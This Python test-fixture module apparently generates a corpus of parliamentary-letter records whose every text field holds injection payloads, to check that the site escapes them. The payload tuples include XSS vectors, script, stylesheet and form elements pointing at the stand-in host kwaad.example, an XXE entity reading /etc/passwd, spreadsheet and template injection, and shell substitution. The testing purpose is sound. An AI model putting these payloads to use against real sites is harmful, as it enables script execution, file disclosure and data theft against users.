"""A corpus of hostile texts: each payload in each text field of each record, every text with a number of its own.

The records are made from the model, so that a new field is hostile too. Each payload has a chapter, a note, a work with
a number and one without, an organisation, a theme, a term, an entry in each layer and a page that is gone. Fields of
which there is one for each letter hold all payloads, one behind the other. The words of a chapter stand in its heading,
its paragraph, its note and every quotation of them, because those have to agree.
"""

import hashlib
import json
import os
import re
import types
import typing
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path

from briefwijzer.addresses.promises import add_to_lock
from briefwijzer.data import letter as model
from briefwijzer.data import records
from briefwijzer.data import values as fields
from briefwijzer.data.layers import LAYER_FILES, LAYERS
from briefwijzer.data.layers.keywords import KEYWORD_GAPS, KEYWORD_READINGS, KEYWORDS, KeywordPlace
from briefwijzer.data.layers.summary import Ground
from briefwijzer.data.reader import load
from briefwijzer.data.shared import Foreign, Moved, Organisation, ReadPage, SourceHost, Synonyms, Term, Theme
from briefwijzer.data.works import Work
from briefwijzer.words.dutch import in_digits

# Each would call boe(), ask kwaad.example for something, make an element, change the page or be worked out, if it were
# not text. (An element may have an x of its own, so that x() is no name for what an attack calls.)
# These leave each place in which a text may stand, by each way out of it, and mean something to each reader of a text.
PAYLOADS = (
    # elements
    "<script>boe()</script>", "<img/src/onerror=boe()>", "<svg onload=boe()>", "<base href=https://kwaad.example/>",
    "<iframe srcdoc='<script>parent.boe()</script>'>", "<a href=javascript:boe()>klik</a>",
    # ends of what may be around it
    "</title><script>boe()</script>", "</script><script>boe()</script>",
    "</textarea><script>boe()</script>", "</p></div></main><h1>x</h1>",
    "<plaintext>", "<!--", "-->", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "]]><b>x</b>",
    # attributes
    '"><script>boe()</script>', "'><script>boe()</script>", '" onmouseover="boe()', "' onfocus='boe()' autofocus='",
    "\\\"-boe()-\\\"", "${boe()}",
    # entities and encodings
    "&lt;script&gt;boe()&lt;/script&gt;", "\\u003cscript\\u003eboe()\\u003c/script\\u003e",
    "＜script＞boe()＜/script＞", "&nbsp&copy&lt",
    # addresses
    "javascript:boe()", "//kwaad.example/", "https://kwaad.example/<b>x",
    # Markdown and templates
    "[x](javascript:boe())", "<https://kwaad.example/>", "{: onclick=boe() }", "[^1] [[x]]", '--8<-- "mkdocs.yml"',
    "{{ 7*7 }} {% include 'x' %} {# x #}", "# kop", "1986. **vet** _x_ `x`", "*[AB]: x",
    # spreadsheets, bibliographies and shells
    "=HYPERLINK(\"https://kwaad.example/\")", "+boe()", "-boe()", "@SUM(A1:A9)", "a;=1+1", "} @misc{x, title={x}",
    "$(x) `x` | x",
)  # fmt: skip
# Others that would do something once they are out, as the former do. ``make audit`` builds a site of all.
MORE_PAYLOADS = (
    # elements
    "<ScRiPt>boe()</sCrIpT>", "<script src=https://kwaad.example/x.js></script>",
    "<scr<script>ipt>boe()</scr</script>ipt>", "<img src=x onerror=boe()>",
    "<svg><animate onbegin=boe() attributeName=x dur=1s>", "<svg><style><img src=x onerror=boe()></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=boe()>", "<object data=javascript:boe()>",
    "<embed src=//kwaad.example/x.svg>", "<meta http-equiv=refresh content=1;url=https://kwaad.example/>",
    "<link rel=stylesheet href=https://kwaad.example/x.css>", "<style>@import '//kwaad.example/x.css';</style>",
    "<body onload=boe()>", "<frameset onload=boe()>", "<image src=x onerror=boe()>", "<details open ontoggle=boe()>",
    "<input autofocus onfocus=boe()>", "<x-kwaad onclick=boe()>x",
    "<form action=https://kwaad.example/><button>x</button></form>",
    "<noscript><p title='</noscript><img src=x onerror=boe()>'>", "<!--><b>x", "<![CDATA[<b>x</b>]]>",
    "<?xml version='1.0'?>",
    # attributes, entities, addresses
    '" autofocus onfocus=boe() x="', "&#60;img src=x onerror=boe()&#62;", "&#106;avascript:boe()",
    "data:text/html,<script>boe()</script>", "\\\\kwaad.example\\x", "![x](https://kwaad.example/x.png)",
)  # fmt: skip
EVERY_PAYLOAD = PAYLOADS + MORE_PAYLOADS
if os.environ.get("AUDIT"):
    PAYLOADS = EVERY_PAYLOAD

# A text of another kind with the same blanks: what a page looks like when nothing is hostile.
HARMLESS = tuple(re.sub(r"[^A-Za-z0-9 ]", "o", payload) for payload in PAYLOADS)

# Which text of its chapter a field must hold, because the checks compare the two.
# Words of the letter beside those that their type says to stand in it.
OF_THE_LETTER = {
    ("Citation", "printed"), ("Section", "heading"), ("Paragraph", "text"), ("Footnote", "text"), ("Term", "forms"),
}  # fmt: skip
FORMS = {
    fields.Date: "2016-10-05", fields.Url: "https://brief.example.org/x?a=1&amp;b=2", fields.Origin: "inference",
    fields.Digits: "24", fields.Vergaderjaar: "2016/17", fields.Dossier: "91000", fields.Ondernummer: "1",
}  # fmt: skip


@dataclass(frozen=True)
class Hostile:
    """A built site of hostile texts, one of harmless texts that is the same otherwise, and the hostile texts."""

    site: Path
    harmless: Path
    texts: list[tuple[str, str, str]]


MARKER = re.compile(r"wq([a-p]+)qw")


def marker(number):
    """A number as a word, so that no check takes it for a sum or a year: 18 is ``wqbcqw``."""
    return f"wq{format(number, 'x').translate(str.maketrans('0123456789abcdef', 'abcdefghijklmnop'))}qw"


def is_text(hint):
    """Whether a field holds a text that may be anything, whatever else its type says of it."""
    checks = [mark.func for mark in getattr(hint, "__metadata__", ()) if hasattr(mark, "func")]
    return checks in ([fields.unmarked], [fields.clean], [fields.unnoted])


@cache
def hints(kind):
    """The fields of a record with their types, asked for once: records are made by the thousand."""
    found = typing.get_type_hints(kind, include_extras=True)
    return [(key, hint) for key, hint in found.items() if not key.startswith("_") and key != "model_config"]


def stands_in_the_letter(hint):
    return any(isinstance(mark, fields.StandsIn) for mark in getattr(hint, "__metadata__", ()))


def numbered(text):
    """The markers in a text: where each ends, and its number."""
    for found in MARKER.finditer(text):
        yield found.end(), int(found[1].translate(str.maketrans("abcdefghijklmnop", "0123456789abcdef")), 16)


@dataclass
class Texts:
    """The texts given out, each with the record and key that it was for; a text ends in its number (see ``marker``)."""

    payloads: tuple[str, ...]
    given: list[tuple[str, str, str]] = field(default_factory=list)

    def new(self, payload, record, key):
        self.given.append((record, key, f"{self.payloads[payload]} {marker(len(self.given))}"))
        return self.given[-1][2]

    def all(self, record, key):
        """Every payload, one behind the other."""
        return " ".join(self.new(payload, record, key) for payload in range(len(self.payloads)))


@dataclass
class Maker:
    """Makes records in which every key is there and every text is hostile."""

    texts: Texts

    def record(self, kind, payload, words="", /, **given):
        """A record as YAML holds it; ``payload`` None puts all of them in each text, ``words`` are its chapter's."""
        made = {}
        for key, hint in hints(kind):
            value = given[key] if key in given else self.value(kind.__name__, key, hint, payload, words)
            if value is not None:
                made[key] = value
        return made

    def value(self, record, key, hint, payload, words):
        if (record, key) in (("Names", "surnames"), ("Work", "described"), ("Work", "likely")):
            return None  # names and titles would not stand as they are in every file then
        inner = [part for part in typing.get_args(hint) if part is not type(None)]
        if is_text(hint):
            if words and ((record, key) in OF_THE_LETTER or stands_in_the_letter(hint)):
                return words
            return self.texts.all(record, key) if payload is None else self.texts.new(payload, record, key)
        if hint in FORMS:
            return FORMS[hint]
        if isinstance(hint, type) and issubclass(hint, records.Record):
            return self.record(hint, payload, words)
        if typing.get_origin(hint) is typing.Literal:
            return inner[0]
        if typing.get_origin(hint) is list:
            payloads = range(len(self.texts.payloads)) if payload is None else [payload]
            return [self.value(record, key, inner[0], each, words) for each in payloads]
        if typing.get_origin(hint) in (typing.Union, types.UnionType):
            return self.value(record, key, inner[0], payload, words)
        return None  # an id: it has to lead somewhere, and is given


def write_hostile(data, payloads=PAYLOADS):
    """Write the corpus to the folder ``data``; returns its texts. Two letters, the second with one chapter."""
    texts = Texts(payloads)
    make = Maker(texts)
    every = range(len(payloads))
    letters = {"kst-90001-1": write_letter(data, make, "kst-90001-1", every)}
    letters["kst-90002-5"] = write_letter(data, make, "kst-90002-5", [0])
    of = letters["kst-90001-1"]
    paper = {"chamber": "II", "vergaderjaar": "2016/17", "dossier": "91000", "source": "letter", "confidence": "high"}
    works = []
    for number in every:
        works.append(make.record(Work, number, id=f"werk-{number}", kind="report", kamerstuk=None))
        its = paper | {"ondernummer": str(number + 1), "title": texts.new(number, "PaperNumber", "title")}
        works.append(make.record(Work, number, id=f"kst-91000-{number + 1}", kind="kamerstuk", kamerstuk=its))
    write(data / "works.yml", {"works": works})
    organisations = [make.record(Organisation, each, id=f"orgaan-{each}", abbreviation=of[each]) for each in every]
    write(data / "organisations.yml", {"organisations": organisations})
    pages = [make.record(ReadPage, each, url=page_of(each), quote="kort") for each in every]
    hosts = [make.record(SourceHost, 0, host="brief.example.org")]
    write(data / "sources.yml", {"hosts": hosts, "pages": pages})
    write(data / "themes.yml", {"themes": [make.record(Theme, each, id=f"thema-{each}") for each in every]})
    terms = [make.record(Term, each, of[each], id=f"begrip-{each}") for each in every]
    # "x" stands in the texts: a group of which they have no word is not sent
    synonyms = [make.record(Synonyms, each, words=[texts.new(each, "Synonyms", "words"), "x"]) for each in every]
    foreign = [make.record(Foreign, each, words=[of[each]]) for each in every]
    write(data / "terms.yml", {"terms": terms, "synonyms": synonyms, "foreign": foreign})
    write_moved(data, make, every)
    return texts


def page_of(payload):
    """The address of the page that says what a payload says."""
    return f"https://brief.example.org/{payload}"


def write_letter(data, make, name, every):
    """Write one letter with a chapter for each payload; returns the words of each chapter."""
    folder, texts = data / "letters" / name, make.texts
    words = {each: texts.new(each, "Paragraph", "text") for each in every}
    source, sections, notes, ends = [], [], [], []
    found = {layer.key: [] for layer in LAYERS}
    for number, (each, text) in enumerate(words.items(), 1):
        paragraph = f"s{number}-p1"
        marked = f"{text}⟦{number}⟧"
        source += [f" {number}. {text}", "", f"{text}{number}", "", f"{number}", f"  {text}", ""]
        forms = [{"text": marked}, {"kind": "quotation", "text": marked}, {"kind": "list", "items": [{"text": marked}]}]
        forms += [{"kind": "table", "rows": [{"cells": [{"text": marked}]}]}, {"kind": "figure", "caption": marked}]
        sections.append({
            "id": f"s{number}", "label": f"{number}.", "heading": text,
            "paragraphs": [{"id": paragraph} | forms[each % len(forms)]],
        })  # fmt: skip
        ends.append({"paragraph": paragraph, "after": marked, "notes": [str(number)]})
        cited = make.record(model.Citation, each, text, work=f"werk-{each}")
        notes.append(
            make.record(
                model.Footnote, each, text, id=f"fn{number}", number=str(number), kind="citation", citations=[cited]
            )
        )
        named = {
            "paragraph": paragraph, "chapter": f"s{number}", "note": str(number), "theme": f"thema-{each}",
            "organisation": f"orgaan-{each}", "work": f"kst-91000-{each + 1}", "page": page_of(each),
            "announcement": f"announcements-{each}", "answer": f"positions-{each}",
            "keyword": f"keywords-{[*words][number - 2]}",  # the one before
        }  # fmt: skip
        choice = {"theme": f"thema-{each}", "part": "reports"}
        given = {"review": "agreed"}
        # What records hold that are within others: the two readings of its themes, and what a sentence rests on.
        ground = make.record(Ground, each, text, paragraph=paragraph)
        within = {"first": [choice], "second": [choice], "grounds": [ground]}
        given["places"] = [make.record(KeywordPlace, each, text, at=paragraph, review="agreed")]
        for layer in LAYERS:
            kind = layer.record
            named["place"] = f"fn{number}" if layer is KEYWORD_GAPS else paragraph
            if layer is KEYWORD_READINGS:  # the readings of its keywords
                within["first"] = within["second"] = within["later"] = [found[KEYWORDS.key][-1]["word"]]
            lists = {key for key, one in kind.model_fields.items() if typing.get_origin(one.annotation) is list}
            known = {key: value for key, value in given.items() if key in kind.model_fields}
            known |= {key: value for key, value in within.items() if key in lists}
            for key, naming in records.fields_with(kind, fields.Naming):
                value = named[naming.what]
                if typing.get_origin(kind.model_fields[key].annotation) is list:  # what stands alone leads nowhere
                    value = [value] if value != f"{layer.key}-{each}" else []
                known[key] = value
            known |= {"id": f"{layer.key}-{each}"} if "id" in kind.model_fields else {}
            # Where the words have digits, the value has to be theirs.
            known |= {"value": digits} if "unit" in kind.model_fields and (digits := in_digits(text)) else {}
            known |= {"value": in_digits(text) or "24"} if "purpose" in kind.model_fields else {}
            found[layer.key].append(make.record(kind, each, text, **known))
    folder.mkdir(parents=True)
    text = "\n".join(source)
    (folder / "source.txt").write_text(text, encoding="utf-8")
    file = {
        "file": "source.txt",
        "sha256": hashlib.sha256(text.encode()).hexdigest(),
        "joined": None,
        "unhyphenated": None,
        "left_out": None,
        "pages": ends,
    }
    _, dossier, paper = name.split("-")
    number = make.record(records.PaperNumber, None, dossier=dossier, ondernummer=paper, chamber="II")
    of = make.record(model.SourceText, None, **file)
    date = make.record(records.DateFact, None, value="2017-02-13")
    version = make.record(model.Version, 0, id=f"{name}-h1")
    letter = make.record(
        model.Letter,
        None,
        id=name,
        kamerstuk=number,
        date=date,
        bridge=None,
        source=of,
        versions=[version],
        former=None,
    )
    for at, filed in enumerate(letter["dossiers"]):
        filed["dossier"] = str(int(dossier) + at)
    write(folder / "letter.yml", letter)
    write(folder / "text.yml", {"sections": sections})
    write(folder / "footnotes.yml", {"footnotes": notes})
    (folder / "annotations").mkdir()
    for file, kind in LAYER_FILES.items():
        layer = {key: found.get(key, "0.74") for key in kind.model_fields}  # alpha is the one value that is no list
        write(folder / "annotations" / file, layer)
    return words


def write_moved(data, make, every):
    """Pages and an id that are gone, with the reason, and some that lead elsewhere; and the lock of all addresses."""
    letter, moved = "brieven/kst-90001-1/", []
    for each in every:
        old = f"{letter}weg-{each}/"
        moved.append(make.record(Moved, each, old=old, new=None))
        moved.append(make.record(Moved, each, old=f"{letter}1/#s1-p{each + 2}", new=None))
    moved.append(make.record(Moved, 0, old=f"{letter}elders/", new=letter, reason=None))
    (data / "ids.lock").write_text("".join(sorted(f"{move['old']}\n" for move in moved)), encoding="utf-8")
    write(data / "moved.yml", {"moved": moved})
    add_to_lock(load(data))


def write(path, value):
    path.write_text("\n".join(yaml_of(value)) + "\n", encoding="utf-8")


def yaml_of(value):
    """Lines of YAML in which each text stands between quotes."""
    for key, inner in value.items():
        if isinstance(inner, str):
            yield f"{key}: {json.dumps(inner, ensure_ascii=False)}"
        elif isinstance(inner, dict):
            yield f"{key}:"
            yield from (f"  {line}" for line in yaml_of(inner))
        elif not inner:
            yield f"{key}: []"
        else:
            yield f"{key}:"
            for item in inner:
                lines = [json.dumps(item, ensure_ascii=False)] if isinstance(item, str) else [*yaml_of(item)]
                yield from (f"  {'  ' if at else '- '}{line}" for at, line in enumerate(lines))
